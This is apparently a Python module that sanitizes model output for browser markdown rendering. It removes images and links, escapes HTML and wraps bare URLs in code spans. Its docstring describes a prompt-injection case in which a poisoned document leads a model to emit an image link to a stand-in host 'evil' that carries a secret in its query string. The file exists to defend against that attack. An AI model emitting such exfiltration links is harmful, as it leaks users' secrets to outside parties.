"""Make model output (and document snippets) safe to render as markdown in the browser.

A prompt-injected document can make the model write `![x](https://evil/?q=<secret>)`: the
browser would fetch that image at once and leak the secret, with no click. DOMPurify (the
Chatbot's `sanitize_html`) keeps `<img src=...>`, so sanitizing HTML is not enough. Outside code
we therefore drop images, turn links into plain text, show raw HTML as text and keep bare URLs
from being auto-linked. Code (fenced blocks and inline spans) renders as text anyway and is kept
verbatim, so a developer's answer with `<div>` in a code block still reads correctly.
"""

from __future__ import annotations

import re

# Fenced blocks (closed, or still open while streaming: then they run to the end) and inline
# code spans. Whatever these match is shown verbatim by the markdown renderer.
_CODE = re.compile(r"(```.*?(?:```|\Z)|~~~.*?(?:~~~|\Z)|`[^`\n]+`)", re.DOTALL)
_IMAGE = re.compile(r"!\[([^\]]*)\]\s*(\([^)]*\)|\[[^\]]*\])?")
_LINK = re.compile(r"\[([^\]]+)\]\s*\([^)]*\)")
_REF_LINK = re.compile(r"\[([^\]]+)\]\s*\[[^\]]*\]")
_REF_DEF = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|data|javascript):[^>\s]*)>", re.IGNORECASE)
_BARE_URL = re.compile(r"\b((?:https?|ftp)://[^\s<>`\"']+|www\.[^\s<>`\"']+)", re.IGNORECASE)


def _clean_prose(text: str) -> str:
    text = _REF_DEF.sub("", text)
    text = _IMAGE.sub(lambda m: f"[image removed: {m.group(1)}]" if m.group(1) else "", text)
    text = _LINK.sub(r"\1", text)
    text = _REF_LINK.sub(r"\1", text)
    text = _AUTOLINK.sub(r"\1", text)
    # A bare URL in a code span is readable and copyable but never a link or an image; raw
    # HTML elsewhere shows as text, so no tag of the model's can load anything.
    parts = _BARE_URL.split(text)
    return "".join(f"`{part}`" if i % 2 else _escape_html(part) for i, part in enumerate(parts))


def _escape_html(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;")


def safe_markdown(text: str) -> str:
    """Markdown that cannot load a remote resource or hold a clickable link; code kept as is."""
    parts = _CODE.split(text)
    # split() with one capturing group alternates prose, code, prose, code, ...
    return "".join(part if i % 2 else _clean_prose(part) for i, part in enumerate(parts))


def plain_inline(text: str, limit: int = 300) -> str:
    """One line of untrusted text (a file name, a snippet) for markdown, shortened, inert."""
    line = " ".join(text.split())
    if len(line) > limit:
        line = line[: limit - 1] + "…"
    parts = _BARE_URL.split(line)
    # Odd parts are URLs: shown as code. Even parts: markdown punctuation escaped, HTML as text.
    return "".join(f"`{part}`" if i % 2 else _escape_inline(part) for i, part in enumerate(parts))


def _escape_inline(text: str) -> str:
    return _escape_html(re.sub(r"([\\`*_\[\]()!#|~])", r"\\\1", text))
